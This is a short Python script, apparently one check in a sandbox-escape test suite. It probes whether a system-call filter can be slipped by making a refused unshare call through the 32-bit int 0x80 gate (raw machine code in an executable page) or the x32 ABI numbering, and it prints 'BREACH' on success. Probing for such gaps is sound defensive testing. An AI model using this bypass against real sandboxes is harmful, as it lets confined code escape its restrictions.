"""Class 35. Makes refused calls by their numbers in the processor's other tables of calls.

A breach: a filter that knows one table lets another's number through.
"""

import ctypes
import mmap
import os

NEWUSER, UNSHARE, X32 = 0x10000000, 272, 0x40000000
# push rbx; mov ebx, NEWUSER; mov eax, 310 (unshare of 32-bit programs); int 0x80; pop rbx; ret
CODE = b"\x53\xbb\x00\x00\x00\x10\xb8\x36\x01\x00\x00\xcd\x80\x5b\xc3"


def by_old_gate() -> int:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(address)())


def by_x32() -> int:
    return int(ctypes.CDLL(None).syscall(X32 | UNSHARE, NEWUSER))


for way in (by_old_gate, by_x32) if os.uname().machine == "x86_64" else ():
    if (child := os.fork()) == 0:
        os._exit(way() == 0)
    if os.waitpid(child, 0)[1] == 1 << 8:
        print(f"BREACH {way.__name__}")
